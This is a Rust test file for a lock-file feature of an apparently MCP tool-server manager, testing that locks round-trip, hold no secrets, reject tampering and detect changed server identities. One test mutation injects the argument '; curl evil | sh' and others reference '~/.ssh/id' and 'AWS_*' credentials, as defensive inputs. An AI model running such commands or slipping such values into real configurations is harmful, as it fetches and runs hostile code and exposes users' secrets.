//! What a lock file records, what it refuses, and which secrets it never contains.

use super::*;

fn stdio(command: &str, args: &[&str]) -> ServerSpec {
    let stdio = StdioSpec {
        command: command.into(),
        args: args.iter().map(|arg| (*arg).to_owned()).collect(),
        env: [
            ("API_TOKEN".to_owned(), Secret::new("canary-one".to_owned())),
            ("FROM".to_owned(), Secret::new("${env:HOME}/x".to_owned())),
        ]
        .into(),
        ..StdioSpec::default()
    };
    ServerSpec::new(ServerName::new("files").unwrap(), TransportSpec::Stdio(stdio))
}

fn http(url: &str, authorization: &str) -> ServerSpec {
    let http = HttpSpec {
        url: url.into(),
        headers: [("Authorization".to_owned(), Secret::new(authorization.to_owned()))].into(),
        ..HttpSpec::default()
    };
    ServerSpec::new(ServerName::new("odd \"name\"").unwrap(), TransportSpec::Http(http))
}

fn lock() -> LockFile {
    let mut files =
        LockedServer::of(&stdio("npx", &["-y", "@acme/files@1.2.3", "--token", "canary"]));
    files.add(CapabilityKind::Tool, "read", Digest::of(b"read"));
    files.add(CapabilityKind::Tool, "read", Digest::of(b"a second of that name"));
    files.add(CapabilityKind::Tool, "odd\u{200b}name", Digest::of(b"odd"));
    files.add(CapabilityKind::Template, "file:///{path}", Digest::of(b"template"));
    files.add(CapabilityKind::Prompt, "ask", Digest::of(b"prompt"));
    files.add(CapabilityKind::Resource, "file:///x", Digest::of(b"resource"));
    let far = LockedServer::of(&http("https://user:canary@example.com/mcp?key=canary", "canary"));
    let servers = [("files".to_owned(), files), ("odd \"name\"".to_owned(), far)];
    LockFile { servers: servers.into() }
}

#[test]
fn a_lock_is_read_as_it_was_written_and_holds_no_secret() {
    let lock = lock();
    let text = lock.format();
    assert_eq!(LockFile::parse(&text).unwrap(), lock);
    assert_eq!(LockFile::parse(&text).unwrap().format(), text);
    assert!(!text.contains("canary"), "{text}");
    assert!(text.contains("odd\\u200Bname"), "{text}");
    assert!(
        text.contains(
            r#"package = { ecosystem = "npm", name = "@acme/files", version = "1.2.3" }"#
        )
    );
    assert!(text.starts_with('#'));
    let first = lock.servers["files"].definition(CapabilityKind::Tool, "read");
    assert_eq!(first, Some(&Digest::of(b"read")));
}

#[test]
fn a_lock_that_says_something_else_is_refused() {
    let good = lock().format();
    let wrong = [
        ("version = 2", "version = 1"),
        ("version = 2", ""),
        ("version = 2", "version = 2\nmore = 2"),
        ("transport = \"stdio\"", "transport = \"stdio\"\nmore = 2"),
        ("transport = \"stdio\"", "transport = 3"),
        ("args = [", "args = [1, "),
        ("identity = \"sha256:", "identity = \"md5:"),
        ("ecosystem = ", "kind = "),
        ("[servers.files.tools]", "[servers.files.tools"),
    ];
    for (from, to) in wrong {
        let text = good.replacen(from, to, 1);
        assert_ne!(text, good);
        assert!(LockFile::parse(&text).is_err(), "{from} -> {to}");
    }
    assert_eq!(LockFile::parse("version = 7"), Err(LockFileError::Version(7)));
}

#[test]
fn an_identity_is_that_of_what_runs_and_no_secret_counts() {
    let base = stdio("npx", &["-y", "x@1.0.0", "--token", "one"]);
    let same = stdio("npx", &["-y", "x@1.0.0", "--token", "two"]);
    assert_eq!(identity_digest(&base), identity_digest(&same));
    let mut rotated = base.clone();
    if let TransportSpec::Stdio(stdio) = &mut rotated.transport {
        stdio.env.insert("API_TOKEN".into(), Secret::new("other".into()));
    }
    assert_eq!(identity_digest(&base), identity_digest(&rotated));
    let changes: [fn(&mut StdioSpec); 10] = [
        |s| s.command = "node".into(),
        |s| s.args[1] = "x@1.0.1".into(),
        |s| s.args.push("--more".into()),
        |s| s.args[3] = "; curl evil | sh".into(),
        |s| s.cwd = Some("elsewhere".into()),
        |s| drop(s.env.insert("NODE_OPTIONS".into(), Secret::new("x".into()))),
        |s| drop(s.env.insert("FROM".into(), Secret::new("${file:~/.ssh/id}".into()))),
        |s| s.env_inherit.push("AWS_*".into()),
        |s| drop(s.env.insert("LEVEL".into(), Secret::new("debug".into()))),
        |s| {
            let set = [("LEVEL".to_owned(), Secret::new("debug".to_owned()))].into();
            s.files.env_file =
                Some(toolgate_model::EnvFile { variables: Some(set), ..Default::default() });
        },
    ];
    for (index, change) in changes.into_iter().enumerate() {
        let mut other = base.clone();
        let TransportSpec::Stdio(stdio) = &mut other.transport else { panic!() };
        change(stdio);
        assert_ne!(identity_digest(&base), identity_digest(&other), "change {index}");
    }
    let far = http("https://example.com/mcp", "Bearer canary");
    assert_eq!(
        identity_digest(&far),
        identity_digest(&http("https://example.com/mcp", "Bearer other"))
    );
    assert_ne!(
        identity_digest(&far),
        identity_digest(&http("https://example.com/mcp", "Bearer ${env:T}"))
    );
    assert_ne!(
        identity_digest(&far),
        identity_digest(&http("https://example.org/mcp", "Bearer canary"))
    );
}

#[test]
fn a_server_that_is_not_as_locked_is_refused_with_what_differs() {
    let lock = lock();
    let good = stdio("npx", &["-y", "@acme/files@1.2.3", "--token", "rotated"]);
    assert_eq!(lock.check_server(&good), None);
    let other = stdio("npx", &["-y", "@acme/files@1.2.4", "--token", "rotated"]);
    let refused = lock.check_server(&other).unwrap();
    assert_eq!(refused.code, "identity-changed");
    assert!(refused.text.starts_with("an argument"), "{refused}");
    let mut unknown = good;
    unknown.name = ServerName::new("more").unwrap();
    assert_eq!(lock.check_server(&unknown).unwrap().code, "server-added");
}

#[test]
fn every_difference_is_a_violation_and_nothing_else_is() {
    let locked = lock();
    assert_eq!(locked.check(&locked), []);
    let codes = |change: fn(&mut LockFile)| {
        let mut now = lock();
        change(&mut now);
        locked.check(&now).into_iter().map(|it| it.code).collect::<Vec<_>>()
    };
    fn files(lock: &mut LockFile) -> &mut LockedServer {
        lock.servers.get_mut("files").unwrap()
    }
    assert_eq!(codes(|now| drop(now.servers.remove("files"))), ["server-removed"]);
    let more = |now: &mut LockFile| {
        let more = now.servers["files"].clone();
        now.servers.insert("more".into(), more);
    };
    assert_eq!(codes(more), ["server-added"]);
    assert_eq!(codes(|now| files(now).identity = Digest::of(b"")), ["identity-changed"]);
    assert_eq!(codes(|now| files(now).instructions = Digest::of(b"")), ["instructions-changed"]);
    assert_eq!(codes(|now| _ = files(now).tools.remove("read")), ["definition-removed"]);
    assert_eq!(
        codes(|now| files(now).add(CapabilityKind::Prompt, "new", Digest::of(b""))),
        ["definition-added"]
    );
    assert_eq!(
        codes(|now| _ = files(now).templates.insert("file:///{path}".into(), Digest::of(b""))),
        ["definition-changed"]
    );
}

#[test]
fn packages_are_read_from_the_usual_runners() {
    let shown = |command: &str, args: &str| {
        let args: Vec<String> = args.split_whitespace().map(str::to_owned).collect();
        let package = ServerPackage::from_command(command, &args)?;
        let version = package.version.unwrap_or("-".into());
        let integrity = package.integrity.map(|it| format!(" {it}")).unwrap_or_default();
        Some(format!("{} {} {version}{integrity}", package.ecosystem, package.name))
    };
    let cases = [
        ("npx", "-y @acme/files@1.2.3 .", "npm @acme/files 1.2.3"),
        ("npx", "-y @acme/files", "npm @acme/files -"),
        ("npx", "files@latest", "npm files -"),
        ("npx", "files@^1.2.3", "npm files -"),
        ("npx", "files@1", "npm files -"),
        ("npx", "files@1.2.x", "npm files -"),
        ("npx", "--package=files@2.0.0-rc.1 -- run", "npm files 2.0.0-rc.1"),
        ("npx", "--registry there files@1.0.0", "npm files 1.0.0"),
        ("/opt/bin/npx.cmd", "files@1.0.0", "npm files 1.0.0"),
        ("npm", "exec -- files@1.0.0", "npm files 1.0.0"),
        ("pnpm", "dlx files@1.0.0", "npm files 1.0.0"),
        ("uvx", "mcp-files==0.6.2", "pypi mcp-files 0.6.2"),
        ("uvx", "mcp-files@0.6.2 --x", "pypi mcp-files 0.6.2"),
        ("uvx", "--python 3.12 --from mcp-files[all]==1.0 run", "pypi mcp-files 1.0"),
        ("uvx", "mcp-files>=0.6", "pypi mcp-files -"),
        ("uv", "tool run mcp-files@latest", "pypi mcp-files -"),
        ("pipx", "run --spec mcp-files==2.1.0 files", "pypi mcp-files 2.1.0"),
        ("docker", "run -i --rm -e A=b host:5000/acme/files:1.4", "oci host:5000/acme/files 1.4"),
        ("docker", "run --rm acme/files:latest x", "oci acme/files -"),
        ("podman", "run acme/files@sha256:abc", "oci acme/files - sha256:abc"),
    ];
    for (command, args, expected) in cases {
        assert_eq!(shown(command, args).as_deref(), Some(expected), "{command} {args}");
    }
    for (command, args) in
        [("node", "server.js"), ("npx", "./server"), ("docker", "ps"), ("uvx", "")]
    {
        assert_eq!(shown(command, args), None, "{command} {args}");
    }
}

#[test]
fn integrity_is_that_of_the_very_version() {
    let lock = r#"{"packages":{"":{},"node_modules/@acme/files":
        {"version":"1.2.3","integrity":"sha512-abc"}}}"#;
    let found = |name, version| npm_integrity(lock, name, version);
    assert_eq!(found("@acme/files", "1.2.3").as_deref(), Some("sha512-abc"));
    assert_eq!(found("@acme/files", "1.2.4"), None);
    assert_eq!(found("files", "1.2.3"), None);
    assert_eq!(npm_integrity("not json", "a", "1"), None);
}
